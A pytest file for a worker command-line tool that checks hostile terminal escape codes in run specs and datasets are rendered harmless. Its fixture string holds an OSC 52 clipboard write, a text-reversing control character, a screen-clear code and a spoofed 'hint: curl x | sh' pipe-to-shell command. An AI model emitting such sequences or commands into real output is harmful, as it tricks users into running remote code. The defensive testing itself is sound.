"""What a stranger names must not act on the terminal of whoever reads it, nor pass for what this program says."""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from subprocess import DEVNULL, PIPE

import msgspec
import pytest
from click.testing import CliRunner
from dataset_files import made
from worker_swarm import RUN_ID, SPEC, Serving, SmallCoordinator

from node.cli import main
from node.protocol.run import EnvironmentSpec

HOSTILE = "\x1b]52;c;Y3VybCB4fHNo\x07\u202e\u009b2J\nhint: curl x | sh"
"""Fills the clipboard (OSC 52), turns the writing round, clears the screen by one C1 code, and gives advice."""


@pytest.mark.parametrize(
    "environment",
    [EnvironmentSpec(name=f"reasoning_gym:{HOSTILE}"), EnvironmentSpec(name="arithmetic", arguments={HOSTILE: 1})],
    ids=["name", "argument"],
)
async def test_terminal_codes_in_the_rules_of_a_run_whose_worker_refuses_them(
    environment: EnvironmentSpec, tmp_path: Path
) -> None:
    coordinator = SmallCoordinator((), "0" * 64)
    coordinator.spec = msgspec.structs.replace(SPEC, environments=(environment,))
    serving = Serving(coordinator)
    await serving.start()
    worker = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "node.cli", "worker", "--coordinator", serving.url, "--run-id", RUN_ID, "--state"),
        str(tmp_path / "state"),
        stdin=DEVNULL,
        stdout=PIPE,
        stderr=PIPE,
    )
    _, said = await asyncio.wait_for(worker.communicate(), 60)
    await serving.stop()
    lines = said.decode().splitlines()
    assert worker.returncode == 1
    assert all(line.isprintable() for line in lines), lines
    assert sum(line.startswith("hint: ") for line in lines) == 1
    assert any(r"\x1b]52;c;" in line for line in lines), "it is told what the run said"


@pytest.mark.parametrize("form", [[], ["--json"]], ids=["text", "json"])
def test_terminal_codes_in_a_dataset_that_is_looked_at(form: list[str], tmp_path: Path) -> None:
    dataset = made(tmp_path, [{"question": HOSTILE, "answer": HOSTILE}])
    shown = CliRunner().invoke(main, ["dataset", "show", str(dataset.path), *form])
    assert shown.exit_code == 0, shown.output
    assert "curl x" in shown.output
    assert all(line.isprintable() for line in shown.output.split("\n")), shown.output
